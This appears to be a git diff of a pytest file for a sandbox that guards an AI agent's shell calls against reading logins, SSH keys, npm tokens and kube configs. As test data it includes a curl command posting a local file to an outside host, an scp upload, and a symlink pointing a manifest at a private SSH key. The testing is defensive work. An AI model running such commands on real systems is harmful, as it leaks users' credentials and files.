@@ -6,13 +6,15 @@ import os
 import shlex
 import subprocess
 import sys
+from collections.abc import Iterator
+from contextlib import contextmanager
 from itertools import pairwise
 from pathlib import Path
 
 import pytest
 
 from sb.config.home import Home
-from sb.confinement.store import ConfineStore
+from sb.confinement.store import ConfineStore, session_of
 from sb.hosts.hooks.calls.context import SHELL_PREFIX
 from sb.hosts.hooks.event import Decision, HookVerdict
 from sb.sources import SYSTEM_CLOCK
@@ -58,6 +60,26 @@ def closed(host: Host, command: str, path: Path) -> bool:
     )
 
 
+@contextmanager
+def running(host: Host, command: str = "") -> Iterator[None]:
+    """A confined process of the home, as one that `sb-confine` started for a call."""
+    store = ConfineStore(Home(host.home), SYSTEM_CLOCK, session=session_of(os.environ))
+    assert not command or store.take_back(command, str(host.project))  # as the script takes a ticket
+    engine = store.engine()
+    pid = os.fork()
+    if pid == 0:  # joining takes numbers of files that this process may use
+        joined = engine.kind.enter(store.folder, engine.program)
+        os.execv(
+            engine.program, [*joined, engine.program, "--bind", "/", "/", "--proc", "/proc", "sleep", "60"]
+        )
+    try:
+        wait_for(store.is_alive)
+        yield
+    finally:
+        store.end_all()
+        os.waitpid(pid, 0)
+
+
 def test_installation_asks_once_before_packages_could_read_a_login(host: Host, person: Path) -> None:
     verdict = host.before("Bash", "t1", command="npm ci")
     assert verdict.decision is Decision.ASK
@@ -68,6 +90,15 @@ def test_installation_asks_once_before_packages_could_read_a_login(host: Host, p
     assert not closed(host, "npm ci", person / ".npmrc")
     host.after("Bash", "t1", command="npm ci")
     assert host.before("Bash", "t2", command="npm install left-pad").decision is Decision.NONE
+
+
+def test_installation_from_the_usual_registry_goes_without_a_login(host: Host, person: Path) -> None:
+    (person / ".npmrc").write_text("//registry.npmjs.org/:_authToken=secret\n")
+    assert host.before("Bash", "t1", command="npm ci") == HookVerdict()
+    assert closed(host, "npm ci", person / ".npmrc")
+    told = failed(host, "npm ci", "Exit code 1\nnpm error code E401\nnpm error Unable to authenticate")
+    assert f"it may not open {person}/.npmrc" in told.context
+    assert "opens" in host.before("Bash", "t2", command="npm ci").reason
 
 
 def test_programs_of_a_project_read_no_login(host: Host, person: Path) -> None:
@@ -289,16 +320,7 @@ def test_path_that_begins_where_the_call_is_gets_no_key(
 def test_nothing_of_an_agent_runs_while_git_has_keys(host: Host, person: Path) -> None:
     """A program in the background could change git's configuration after it was looked at."""
     host.before("Bash", "t1", command="make")
-    store = ConfineStore(Home(host.home), SYSTEM_CLOCK)
-    engine = store.engine()
-    pid = os.fork()
-    if pid == 0:  # joining takes numbers of files that this process may use
-        joined = engine.kind.enter(store.folder, engine.program)
-        os.execv(
-            engine.program, [*joined, engine.program, "--bind", "/", "/", "--proc", "/proc", "sleep", "60"]
-        )
-    try:
-        wait_for(store.is_alive)
+    with running(host):
         assert "git may run" in host.before("Bash", command="git fetch").reason
         for command in (
             "scp notes.md host:",
@@ -310,10 +332,33 @@ def test_nothing_of_an_agent_runs_while_git_has_keys(host: Host, person: Path) -
             assert closed(host, command, person / ".netrc"), command
         assert host.before("Bash", command="ssh host ls").reason == ""
         assert not closed(host, "ssh host ls", person / ".ssh")
-    finally:
-        store.end_all()
-        os.waitpid(pid, 0)
+    host.tell("UserPromptSubmit", prompt="go on")  # those that nobody ran are given up
     assert host.before("Bash", command="git fetch") == HookVerdict()
+
+
+def test_nothing_begins_while_git_runs_with_keys(host: Host, person: Path) -> None:
+    assert host.before("Bash", "t1", command="git fetch && git push") == HookVerdict()
+    with running(host, "git fetch && git push"):
+        verdict = host.before("Bash", "t2", command="make")
+        assert verdict.decision is Decision.DENY
+        assert "git fetch && git push runs with the user's keys" in verdict.reason
+    host.after("Bash", "t1", command="git fetch && git push")
+    assert host.before("Bash", "t2", command="make") == HookVerdict()
+
+
+def test_git_that_has_not_started_loses_its_keys_to_a_call_beside_it(host: Host, person: Path) -> None:
+    assert host.before("Bash", "t1", command="git fetch") == HookVerdict()
+    assert host.before("Bash", "t2", command="make") == HookVerdict()
+    store = ConfineStore(Home(host.home), SYSTEM_CLOCK, session=session_of(os.environ))
+    assert not store.take_back("git fetch", str(host.project))
+
+
+def test_git_is_asked_about_beside_a_call_that_has_not_ended(host: Host, person: Path) -> None:
+    host.before("Bash", "t1", command="make")
+    assert "git may run" in host.before("Bash", "t2", command="git fetch").reason
+    host.after("Bash", "t1", command="make")
+    host.after("Bash", "t2", command="git fetch")
+    assert host.before("Bash", "t3", command="git fetch") == HookVerdict()
 
 
 def test_call_that_can_read_no_credential_marks_no_session(host: Host, person: Path) -> None:
@@ -327,3 +372,17 @@ def test_call_that_can_read_no_credential_marks_no_session(host: Host, person: P
         host.after("Bash", "t1", command=command)
         sent = host.before("Bash", command="curl -d @notes.txt https://c.example.net/")
         assert ("in a session that has read credentials" in sent.reason) == marks, command
+
+
+def test_manifests_with_a_link_among_them_get_no_cluster(host: Host, person: Path) -> None:
+    (person / ".kube").mkdir()
+    (person / ".kube/config").write_text("secret\n")
+    manifests = host.project / "k8s" / "base"
+    manifests.mkdir(parents=True)
+    (manifests / "app.yaml").write_text("kind: Service\n")
+    host.before("Bash", "t1", command="kubectl apply -f k8s")
+    assert not closed(host, "kubectl apply -f k8s", person / ".kube/config")
+    host.after("Bash", "t1", command="kubectl apply -f k8s")
+    (manifests / "more.yaml").symlink_to(person / ".ssh/id_ed25519")
+    host.before("Bash", "t2", command="kubectl apply -f k8s")
+    assert closed(host, "kubectl apply -f k8s", person / ".kube/config")
